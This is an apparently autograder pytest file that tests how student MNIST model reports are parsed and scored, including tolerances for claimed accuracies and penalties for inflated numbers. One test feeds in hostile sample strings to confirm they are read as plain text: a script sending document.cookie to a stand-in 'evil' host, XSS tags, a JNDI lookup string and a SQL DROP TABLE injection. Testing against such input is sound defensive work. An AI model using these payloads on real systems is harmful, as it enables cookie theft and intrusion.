    assert limits.tolerance["cnn"] == pytest.approx(0.015)  # the floor: 3 x 0.0002 is less than rounding
    assert limits.tolerance["simple_rnn"] == pytest.approx(0.017)  # 3 x 0.004 + 0.005
    assert limits.tolerance["lstm"] == pytest.approx(0.019)  # capped: a claim 2 points off is never honest
    assert limits.printed_bound["cnn"] == pytest.approx(0.019) and limits.printed_bound["lstm"] == pytest.approx(0.019)


def test_the_spread_is_read_from_the_runs_when_the_calibration_has_no_std():
    calibration = {"architectures": {"gru": {"test_accuracy": {"runs": [0.97, 0.98, 0.99]}}}}
    rules = ClaimRules(tolerance_floor=0.0, spread_sigmas=1, machine_margin=0.0, cap=1.0)
    assert claim_limits(rules, calibration).tolerance["gru"] == pytest.approx(0.0082, abs=1e-4)
    assert claim_limits(rules, {}).tolerance["gru"] == 0.0


def test_the_committed_rules_keep_every_tolerance_under_two_points(assignment):
    limits = claim_limits(ClaimRules.from_assignment(assignment), assignment.calibration())
    for arch in ARCHS:
        assert 0.01 <= limits.tolerance[arch] <= limits.printed_bound[arch] < 0.02


def test_bad_claim_rules_in_the_assignment_are_named(assignment):
    from autograder.assignment import AssignmentError, validate_config
    for key, value in (("claim_machine_margin", "half"), ("list_table_credit", 2)):
        with pytest.raises(AssignmentError, match=f"report.{key}"):
            validate_config({**assignment.raw, "report": {**assignment.raw["report"], key: value}})


# --- honest claims are not lies; inflated ones still are ---------------------------------------------

RNN_REPORT = "| Model | Test accuracy |\n|---|---|\n| SimpleRNN | 97.63% |\n| CNN | 99.1% |\n"


def _printed(value, arch="simple_rnn", text=None):
    return PrintedAccuracy(value, arch, text or f"Test accuracy: {value:.4f}", 7)


def test_an_honest_claim_the_notebook_printed_passes_although_the_rerun_landed_1_07_points_lower(assignment):
    # Issue 11: the student's run printed 0.9763; the grader's re-run of the RNN measured 1.07 points less.
    report = analyze_report([RNN_REPORT], assignment)
    measured = {"simple_rnn": 0.9656, "cnn": 0.991}
    tight = ClaimLimits({a: 0.01 for a in ARCHS}, {a: 0.015 for a in ARCHS})
    assert check_claims(judge_claims(report, measured, tight)).fraction == 0.5  # unprinted: 1.07 > 1.0
    verdicts = judge_claims(report, measured, tight, printed=[_printed(0.9763)])
    assert [v.status for v in verdicts] == ["printed", "agrees"]
    assert verdicts[0].printed == _printed(0.9763)  # the printed number that makes it honest
    outcome = check_claims(verdicts)
    assert outcome.fraction == 1.0 and "Test accuracy: 0.9763" in outcome.detail  # the TA sees the printed line


def test_a_printed_number_matches_a_claim_to_the_digits_the_claim_states(assignment):
    report = analyze_report(["The SimpleRNN reaches 97.6% on the test set."], assignment)
    tight = ClaimLimits({a: 0.01 for a in ARCHS}, {a: 0.015 for a in ARCHS})
    assert judge_claims(report, {"simple_rnn": 0.9656}, tight, printed=[_printed(0.97634)])[0].status == "printed"
    assert judge_claims(report, {"simple_rnn": 0.9656}, tight, printed=[_printed(0.9745)])[0].status == "wrong"
    # A number printed for another architecture does not back it; one printed for none named does.
    assert judge_claims(report, {"simple_rnn": 0.9656}, tight, printed=[_printed(0.976, "gru")])[0].status == "wrong"
    assert judge_claims(report, {"simple_rnn": 0.9656}, tight, printed=[_printed(0.976, None)])[0].status == "printed"


def _rnn_claim(assignment, claimed):
    return analyze_report([f"| Model | Test accuracy |\n|---|---|\n| SimpleRNN | {100 * claimed:.2f}% |\n"], assignment)


@pytest.mark.parametrize("inflation", [0.02, 0.03, 0.06])
def test_inflated_claims_lose_the_points(assignment, inflation):
    measured = {"simple_rnn": 0.9356}
    claimed = measured["simple_rnn"] + inflation
    limits = claim_limits(ClaimRules.from_assignment(assignment), assignment.calibration())  # the committed rules
    verdicts = judge_claims(_rnn_claim(assignment, claimed), measured, limits,
                            printed=[_printed(0.9356), _printed(round(claimed - 0.01, 4))])  # printed: not this
    assert [v.status for v in verdicts] == ["wrong"] and verdicts[0].inflated
    outcome = check_claims(verdicts)
    assert outcome.fraction == 0.0 and "SimpleRNN" in outcome.message and f"{100 * claimed:.2f}%" in outcome.message


@pytest.mark.parametrize("measured, claimed", [
    (0.975, 0.995),  # +2 on a model near the reference's quality: beyond every bound
    (0.93, 0.99),  # +6 on a good model
    (0.65, 0.80),  # +15 on a weak one-epoch model: beyond even its wide run-to-run spread
])
def test_inflated_claims_lose_the_points_even_when_the_notebook_printed_them(assignment, measured, claimed):
    limits = claim_limits(ClaimRules.from_assignment(assignment), assignment.calibration())
    printed = [_printed(claimed), _printed(claimed, None, f"print({claimed})")]
    verdicts = judge_claims(_rnn_claim(assignment, claimed), {"simple_rnn": measured}, limits, printed=printed)
    assert [v.status for v in verdicts] == ["wrong"] and verdicts[0].inflated


@pytest.mark.parametrize("measured, claimed", [(0.93, 0.95), (0.65, 0.70), (0.65, 0.61)])
def test_a_weak_models_printed_run_may_sit_further_from_the_rerun(assignment, measured, claimed):
    # Run-to-run spread grows with the error rate: a one-epoch network differs by points between runs.
    limits = claim_limits(ClaimRules.from_assignment(assignment), assignment.calibration())
    report = _rnn_claim(assignment, claimed)
    assert judge_claims(report, {"simple_rnn": measured}, limits)[0].status == "wrong"
    assert judge_claims(report, {"simple_rnn": measured}, limits, printed=[_printed(claimed)])[0].status == "printed"
    assert limits.plausible_printed_gap("simple_rnn", measured) == pytest.approx(
        max(limits.printed_bound["simple_rnn"], ClaimRules.from_assignment(assignment).printed_error_share
            * (1 - measured)))


def test_a_claim_about_a_model_that_failed_integrity_is_not_a_match(assignment):
    # Trained on the test set: the grader measures the same 100 % the report states, and it still fails.
    report = analyze_report(["| Model | Test accuracy |\n|---|---|\n| MLP | 100% |\n| CNN | 99.1% |\n"], assignment)
    verdicts = judge_claims(report, {"mlp": 1.0, "cnn": 0.991}, _limits(), printed=[_printed(1.0, "mlp")],
                            failed_integrity=frozenset({"mlp"}))
    assert [v.status for v in verdicts] == ["integrity", "agrees"] and verdicts[0].inflated
    outcome = check_claims(verdicts)
    assert outcome.fraction == 0.5 and "MLP" in outcome.message and "CNN" not in outcome.message


# --- insights ----------------------------------------------------------------------------------------

def test_insights_need_length_and_a_comparison_for_full_credit(assignment):
    compare = "The CNN beats the MLP. " + words(76)
    assert check_insights(analyze_report(["## Insights\n" + compare], assignment), assignment).fraction == 1.0

    brief = analyze_report(["## Insights\nThe CNN beats the MLP. " + words(35)], assignment)
    assert brief.section("Insights").words == 5 + 35
    short = check_insights(brief, assignment)
    assert short.fraction == pytest.approx(40 / 80)  # compares, in half the words asked for
    assert "40" in short.message and "80" in short.message  # the count and the minimum

    alone = analyze_report(["## Discussion\nThe CNN is good. " + words(80)], assignment)
    assert alone.section("Insights").architectures == {"cnn"}
    one = check_insights(alone, assignment)
    assert one.fraction == 0.5 and "CNN" in one.message  # names what it compares: one architecture


def test_insights_that_rest_on_inflated_claims_earn_less_than_honest_ones(assignment):
    cells = ["| Model | Test accuracy |\n|---|---|\n| MLP | 99.6% |\n| CNN | 99.1% |\n",
             "## Insights\nThe MLP beats the CNN, which shows that convolutions do not help here. " + words(70)]
    report = analyze_report(cells, assignment)
    honest = check_insights(report, assignment, judge_claims(report, {"mlp": 0.995, "cnn": 0.991}, _limits()))
    inflated_verdicts = judge_claims(report, {"mlp": 0.975, "cnn": 0.991}, _limits())
    inflated = check_insights(report, assignment, inflated_verdicts)
    assert honest.fraction == 1.0
    share = ClaimRules.from_assignment(assignment).inflated_insights_credit
    # They name two architectures, one of them on an inflated number: half of the discount.
    assert share < 1 and inflated.fraction == pytest.approx(1 - (1 - share) / 2)
    every = judge_claims(report, {"mlp": 0.975, "cnn": 0.97}, _limits())  # both inflated: the whole discount
    assert check_insights(report, assignment, every).fraction == pytest.approx(share)
    assert [v.claim.architecture for v in inflated_verdicts if v.inflated] == ["mlp"]
    assert "MLP" in inflated.message
    # A claim below the measurement is wrong but not inflated: the insights do not lose for it.
    under = judge_claims(report, {"mlp": 0.9999, "cnn": 0.991}, _limits(0.001))
    assert check_claims(under).fraction == 0.5 and check_insights(report, assignment, under).fraction == 1.0


# --- whole reports -----------------------------------------------------------------------------------

def _hidden_tests(repo):
    spec = importlib.util.spec_from_file_location("report_tests", repo / "assignments/mnist/hidden/report_tests.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _run_q8(repo, assignment, cells, measured, printed=(), flagged=frozenset()):
    """Call each q8 hidden test the way the runner does: fixtures by parameter name."""
    module = _hidden_tests(repo)
    models = {arch: ModelEvidence(arch, found=arch in measured, variable=f"{arch}_model" if arch in measured else None)
              for arch in ARCHS}
    fixtures = {"report": analyze_report(cells, assignment), "assignment": assignment,
                "measured_public_accuracy": measured, "models": models, "calibration": assignment.calibration(),
                "printed_accuracies": tuple(printed), "flagged_architectures": frozenset(flagged)}
    q8 = next(q for q in assignment.questions if q.id == "q8")
    return {check.test: getattr(module, check.test)(
        **{name: fixtures[name] for name in inspect.signature(getattr(module, check.test)).parameters})
        for check in q8.checks}


def test_a_complete_report_passes_all_four_checks(repo, assignment):
    outcomes = _run_q8(repo, assignment, FULL_REPORT, MEASURED)
    assert {name: o.fraction for name, o in outcomes.items()} == {
        "report_sections": 1.0, "report_table": 1.0, "report_insights": 1.0, "report_claims": 1.0}
    report = analyze_report(FULL_REPORT, assignment)
    assert sorted((c.architecture, c.source) for c in report.claims) == [
        ("cnn", "prose"), ("cnn", "table"), ("gru", "table"), ("lstm", "table"), ("mlp", "table"),
        ("simple_rnn", "table")]


def test_the_complete_report_fails_claims_when_the_grader_measures_otherwise(repo, assignment):
    outcomes = _run_q8(repo, assignment, FULL_REPORT, {**MEASURED, "lstm": 0.95})
    assert outcomes["report_claims"].fraction == pytest.approx(4 / 5)  # one wrong number: its share
    assert all(part in outcomes["report_claims"].message for part in ("LSTM", "98.6%", "95.0%"))


def test_the_hidden_tests_use_the_printed_numbers_and_the_integrity_verdicts(repo, assignment):
    # The LSTM's re-run landed 1.86 points below what the notebook printed and the report states (98.6 %):
    # beyond the committed tolerance, within the bound for a printed run.
    measured = {**MEASURED, "lstm": 0.9674}
    assert _run_q8(repo, assignment, FULL_REPORT, measured)["report_claims"].fraction == pytest.approx(4 / 5)
    printed = [PrintedAccuracy(0.9860, "lstm", "LSTM test accuracy: 0.9860", 12)]
    outcomes = _run_q8(repo, assignment, FULL_REPORT, measured, printed)
    assert outcomes["report_claims"].fraction == 1.0 and outcomes["report_insights"].fraction == 1.0
    # A model that failed integrity: its claim is no match, and the insights naming it rest on it.
    outcomes = _run_q8(repo, assignment, FULL_REPORT, MEASURED, printed, flagged={"cnn"})
    assert outcomes["report_claims"].fraction == pytest.approx(4 / 5)
    assert "CNN" in outcomes["report_claims"].message and "LSTM" not in outcomes["report_claims"].message
    # The insights name all five; resting on the CNN's number costs a fifth of the discount.
    discount = 1 - ClaimRules.from_assignment(assignment).inflated_insights_credit
    assert outcomes["report_insights"].fraction == pytest.approx(1 - discount / 5)
    # The flagged model's number may be what it measures: no table row or Results share is lost for it.
    assert outcomes["report_table"].fraction == 1.0 and outcomes["report_sections"].fraction == 1.0


def test_an_empty_report_scores_zero_with_clear_messages(repo, assignment):
    outcomes = _run_q8(repo, assignment, [], MEASURED)
    assert all(o.fraction == 0.0 and o.message for o in outcomes.values())
    # The sections message names every section the rubric asks for; the insights message the one it reads.
    assert all(s.title in outcomes["report_sections"].message for s in assignment.report_sections)
    assert "Insights" in outcomes["report_insights"].message


def test_injection_looking_content_is_just_text(assignment):
    cells = ["## Results <script>alert('x')</script>\n"
             "\x1b[31mThe MLP reaches 97.9% on the test set.\x1b[0m <img src=x onerror=alert(1)>\n\n"
             "<script>\nfetch('http://evil/' + document.cookie)\n</script>\n\n"
             "{{ 7*7 }} {% raw %} ${jndi:ldap://x} '; DROP TABLE grades; --\n\n"
             "| Model | Acc |\n|---|---|\n| <b>CNN</b> | 99.1% |\n"]
    report = analyze_report(cells, assignment)
    results = report.section("Results")
    assert results.heading == "Results alert('x')"  # tags are dropped, their text is plain text
    assert [(c.architecture, c.accuracy) for c in report.claims] == [("mlp", pytest.approx(0.979)),
                                                                     ("cnn", pytest.approx(0.991))]
    assert "\x1b[31mThe MLP" in report.claims[0].quote  # kept verbatim, never interpreted
    assert _check(report, {"mlp": 0.979, "cnn": 0.991}).fraction == 1.0


def test_huge_cells_are_truncated_and_parsed_quickly(assignment):
    cells = ["## Results\n" + words(40), "[" * (3 * MAX_CELL_CHARS), "*a " * MAX_CELL_CHARS]
    start = time.perf_counter()
    report = analyze_report(cells, assignment)
    assert time.perf_counter() - start < 20
    assert report.truncated and report.section("Results").words >= 40
    assert not analyze_report(["## Results\n" + words(40)], assignment).truncated


def test_the_reference_notebooks_report_passes_all_four_checks(repo, assignment):
    notebook = nbformat.read(assignment.master_notebook, as_version=4)
    report = analyze_report(report_markdown(notebook), assignment)
    stated = {c.architecture: c.accuracy for c in report.claims if c.source == "table"}
    assert set(stated) == set(assignment.table_architectures)
    # What the grader measures differs a little from what the notebook printed (another run, rounding).
    measured = {arch: accuracy - 0.004 for arch, accuracy in stated.items()}
    outcomes = _run_q8(repo, assignment, report_markdown(notebook), measured)
    assert {name: o.fraction for name, o in outcomes.items()} == {
        "report_sections": 1.0, "report_table": 1.0, "report_insights": 1.0, "report_claims": 1.0}


def test_the_unfilled_student_template_scores_zero(repo, assignment):
    notebook = nbformat.read(assignment.student_dir / assignment.student_notebook, as_version=4)
    outcomes = _run_q8(repo, assignment, report_markdown(notebook), MEASURED)
    assert {name: o.fraction for name, o in outcomes.items()} == {
        "report_sections": 0.0, "report_table": 0.0, "report_insights": 0.0, "report_claims": 0.0}


# --- false numbers weigh on the table, the Results section and the insights too (issue 23, item 2) ------------

def _q8_points(outcomes, assignment) -> float:
    q8 = next(q for q in assignment.questions if q.id == "q8")
    return sum(outcomes[check.test].fraction * check.points for check in q8.checks)


def test_a_report_whose_every_number_is_inflated_earns_well_below_an_honest_one_of_the_same_depth(repo, assignment):
    honest = _run_q8(repo, assignment, FULL_REPORT, MEASURED)
    assert _q8_points(honest, assignment) == pytest.approx(27)
    # The same report, every model measured 2-6 points below what it states.
    lower = {"mlp": 0.95, "cnn": 0.97, "simple_rnn": 0.905, "lstm": 0.95, "gru": 0.96}
    inflated = _run_q8(repo, assignment, FULL_REPORT, lower)
    assert {name: o.fraction for name, o in inflated.items()} == pytest.approx({
        "report_sections": 2 / 3, "report_table": 0.0, "report_claims": 0.0,
        "report_insights": ClaimRules.from_assignment(assignment).inflated_insights_credit})
    assert _q8_points(inflated, assignment) <= 12
    # Both messages name the architectures whose numbers are false: all five.
    titles = ("MLP", "CNN", "SimpleRNN", "LSTM", "GRU")
    assert all(t in inflated["report_table"].message and t in inflated["report_sections"].message for t in titles)


def test_one_wrong_number_costs_only_its_share_and_an_honest_rerun_difference_nothing(repo, assignment):
    one_wrong = _run_q8(repo, assignment, FULL_REPORT, {**MEASURED, "lstm": 0.95})
    discount = 1 - ClaimRules.from_assignment(assignment).inflated_insights_credit
    assert {name: o.fraction for name, o in one_wrong.items()} == pytest.approx({
        "report_sections": (2 + 4 / 5) / 3, "report_table": 4 / 5, "report_claims": 4 / 5,
        "report_insights": 1 - discount / 5})
    assert 22 < _q8_points(one_wrong, assignment) < 27
    # The LSTM's re-run landed 1.86 points below what the notebook printed and the report states: honest.
    printed = [PrintedAccuracy(0.9860, "lstm", "LSTM test accuracy: 0.9860", 12)]
    rerun = _run_q8(repo, assignment, FULL_REPORT, {**MEASURED, "lstm": 0.9674}, printed)
    assert _q8_points(rerun, assignment) == pytest.approx(27)


def test_a_number_under_the_measurement_is_false_for_the_table_but_the_insights_do_not_rest_on_it(assignment):
    report = analyze_report(["| Model | Test accuracy |\n|---|---|\n| MLP | 90.0% |\n| CNN | 99.1% |\n"], assignment)
    verdicts = judge_claims(report, {"mlp": 0.979, "cnn": 0.991}, _limits())
    assert [v.false for v in verdicts] == [True, False] and not verdicts[0].inflated
    two = analyze_report(["| Model | Test accuracy |\n|---|---|\n| MLP | 97.9% |\n| CNN | 99.1% |\n"], assignment)
    assert check_table(report, assignment, verdicts=verdicts).fraction == pytest.approx(
        check_table(two, assignment).fraction - 1 / 5)


# --- reports in other languages and formats (issue 23, item 7) ---------------------------------------------

GERMAN_REPORT = """\
## Architekturen

Das **MLP** macht aus dem 28×28-Bild einen Vektor und hat zwei verborgene Dense-Schichten mit 256 und 128
Einheiten (ReLU) und Dropout, danach eine Softmax-Schicht. Das **CNN** hat zwei Faltungsblöcke (Conv2D mit 32
und 64 Filtern, jeweils mit Max-Pooling) und eine Dense-Schicht. Die drei rekurrenten Netze lesen das Bild
Zeile für Zeile, 28 Schritte mit je 28 Pixeln: ein SimpleRNN, ein LSTM und ein GRU mit je 128 Einheiten.

## Ergebnisse

| Modell | Genauigkeit (Test) | Parameter | Trainingszeit (s) |
|---|---|---|---|
| MLP | 97,9 % | 235.146 | 21,4 |
| CNN | 99,1 % | 225.034 | 95,0 |
| SimpleRNN | 96,2 % | 21.642 | 64,2 |
| LSTM | 98,6 % | 82.186 | 160,3 |
| GRU | 98,4 % | 62.346 | 140,8 |

## Erkenntnisse

Das CNN ist mit 99,1 % klar das beste Modell: Faltungen teilen ihre Gewichte über das ganze Bild und das
Pooling macht es robust gegen kleine Verschiebungen, deshalb schlägt es das MLP mit weniger Parametern. Das MLP
ist am schnellsten trainiert, behandelt aber jedes Pixel für sich. Unter den rekurrenten Netzen sind LSTM und
GRU deutlich besser als das SimpleRNN, dessen Gradienten über 28 Schritte verschwinden; ihre Gates behalten
die Information der ersten Zeilen. Das GRU ist fast so genau wie das LSTM, mit weniger Parametern und kürzerer
Trainingszeit. Für Bilder ist die Faltung die bessere Annahme.
"""


def test_a_german_report_with_decimal_commas_and_thousands_points_earns_full_marks(repo, assignment):
    report = analyze_report([GERMAN_REPORT], assignment)
    assert [s.heading for s in report.sections] == ["Architekturen", "Ergebnisse", "Erkenntnisse"]
    stated = {c.architecture: c.accuracy for c in report.claims if c.source == "table"}
    assert stated == pytest.approx({"mlp": 0.979, "cnn": 0.991, "simple_rnn": 0.962, "lstm": 0.986, "gru": 0.984})
    outcomes = _run_q8(repo, assignment, [GERMAN_REPORT], MEASURED)
    assert {name: o.fraction for name, o in outcomes.items()} == {
        "report_sections": 1.0, "report_table": 1.0, "report_insights": 1.0, "report_claims": 1.0}


SPANISH_TABLE = """\
| Modelo | Exactitud | Cantidad |
|---|---|---|
| MLP | 97,9 % | 71.818 |
| SimpleRNN | 96,2 % | 6.602 |
"""


def test_thousands_points_in_a_decimal_comma_report_are_no_accuracies(assignment):
    # A column the grader has no word for: its cells decide, read in the report's own conventions.
    report = analyze_report([SPANISH_TABLE], assignment)
    assert [(c.architecture, c.accuracy) for c in report.claims] == [("mlp", pytest.approx(0.979)),
                                                                     ("simple_rnn", pytest.approx(0.962))]
    assert report.tables[0].accuracy_header == "Exactitud"
    verdicts = judge_claims(report, {"mlp": 0.979, "simple_rnn": 0.962}, _limits())
    assert check_claims(verdicts).fraction == 1.0


@pytest.mark.parametrize("texts, mark", [
    (["La CNN llega al 98,9 % y el MLP al 97,8 %; 10.000 imágenes."], ","),
    (["The CNN reaches 98.9% and the MLP 97.8% on 10,000 images."], "."),
    (["10.000 images, 71.818 parameters"], "."),  # nothing unambiguous: decimal points
    (["Genauigkeit 0,981 bei 1.234,5 Sekunden", "98.1"], ","),
])
def test_the_decimal_mark_is_the_one_the_report_shows(texts, mark):
    assert decimal_mark(texts) == mark


@pytest.mark.parametrize("text, decimal, expected", [
    ("98,1 % y 71.818 parámetros", ",", "98.1 % y 71818 parámetros"),
    ("0.981 and 235,146 parameters", ".", "0.981 and 235146 parameters"),
    ("1.234,5 s; 0,98; 98.1", ",", "1234.5 s; 0.98; 98.1"),
    ("layers 1,2,3 on 5.12.2026", ".", "layers 1,2,3 on 5.12.2026"),
])
def test_numbers_are_read_in_the_reports_conventions(text, decimal, expected):
    assert canonical_numbers(text, decimal) == expected


def test_an_html_table_is_a_table_with_claims_and_words(repo, assignment):
    html = """## Results

<table>
  <thead><tr><th>Model</th><th>Test accuracy</th><th>Parameters</th></tr></thead>

  <tbody>
    <tr><td>MLP</td><td>97.85%</td><td>235,146</td></tr>
    <tr><td><b>CNN</b></td><td>0.9905</td><td>225,034</td></tr>
    <tr><td>SimpleRNN</td><td>96.50%</td></tr>
    <tr><td>LSTM</td><td>98.60%</td><td>82,186</td></tr>
    <tr><td>GRU</td><td>98.42%</td><td>62,346</td></tr>
  </tbody>
</table>
"""
    report = analyze_report([html], assignment)
    assert len(report.tables) == 1 and report.tables[0].architectures == set(ARCHS)
    assert {c.architecture: c.accuracy for c in report.claims} == pytest.approx(MEASURED)
    assert report.section("Results").words == 18  # the table's cells, as a markdown table's
    assert check_table(report, assignment).fraction == 1.0
    assert _check(report, MEASURED).fraction == 1.0


@pytest.mark.parametrize("html", [
    "<table><tr><td>MLP<table></td></tr></table>",  # a table nested in a cell
    "<table></td><td>MLP</td><td>97.9%</td></tr>",  # closing tags out of order, never closed
    "<table>" + "<tr><td>CNN</td><td>99.1%" * 5000,
    "<td>97.9%</td><tr><table>",
])
def test_broken_or_hostile_html_tables_are_read_as_far_as_they_go_and_never_fail(assignment, html):
    report = analyze_report(["## Results\n\n" + html + "\n"], assignment)
    assert all(len({len(row.cells) for row in table.rows}) <= 1 for table in report.tables)
    assert check_table(report, assignment).fraction <= 2 / 5


def test_without_a_heading_a_german_paragraph_comparing_architectures_is_the_insights_section(assignment):
    text = ("Das CNN erreicht 99,1 % und schlägt damit das MLP mit 97,9 %, weil Faltungen ihre Gewichte teilen. "
            + words(70, "Wort"))
    insights = analyze_report(["## Sonstiges\n" + text], assignment).section("Insights")
    assert insights.found_by == "content: a paragraph comparing architectures with numbers" and insights.words >= 80


@pytest.mark.parametrize("sentence, expected", [
    ("Das CNN erreicht eine Testgenauigkeit von 99,1 %.", ("cnn", 0.991)),
    ("La CNN alcanza una exactitud del 98,9 % en el conjunto de prueba.", ("cnn", 0.989)),
    ("Le CNN atteint 98,9 pour cent de précision.", ("cnn", 0.989)),
])
def test_prose_claims_in_other_languages(assignment, sentence, expected):
    claims = analyze_report([sentence], assignment).claims
    assert [(c.architecture, c.accuracy) for c in claims] == [(expected[0], pytest.approx(expected[1]))]


@pytest.mark.parametrize("sentence", [
    "Das CNN sollte über 99 % erreichen.",
    "La CNN debería superar el 99 %.",
    "Con más datos la CNN llegaría a más de 99 %.",
    "En el conjunto de entrenamiento la CNN llega al 99,8 %.",
])
def test_targets_bounds_and_training_accuracies_in_other_languages_are_no_claims(assignment, sentence):
    assert analyze_report([sentence], assignment).claims == ()


def test_a_number_for_a_model_the_grader_has_not_got_is_charged_by_the_claims_only(assignment):
    # The run may have lost the model (a timeout): the claims check fails, the table and Results keep it.
    report = analyze_report(["## Results\n| Model | Test accuracy |\n|---|---|\n| MLP | 97.9% |\n| CNN | 99.1% |\n"],
                            assignment)
    verdicts = judge_claims(report, {"mlp": 0.979}, _limits(), not_submitted=frozenset({"cnn"}))
    assert check_claims(verdicts).fraction == 0.0
    assert check_table(report, assignment, verdicts=verdicts).fraction == check_table(report, assignment).fraction
    assert check_sections(report, assignment, verdicts).fraction == check_sections(report, assignment).fraction
